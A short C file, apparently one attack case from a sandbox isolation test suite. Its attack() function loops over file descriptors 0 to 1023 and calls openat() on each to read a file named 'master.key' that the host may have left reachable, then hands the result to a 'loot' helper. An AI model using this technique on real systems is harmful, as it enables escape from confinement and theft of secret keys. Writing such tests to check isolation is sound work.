/* Opens a file below a folder that the host may have left open. */
#include "../attack.h"

static void attack(void) {
    for (int fd = 0; fd < 1024; ++fd)
        loot_from(openat(fd, "master.key", O_RDONLY));
}
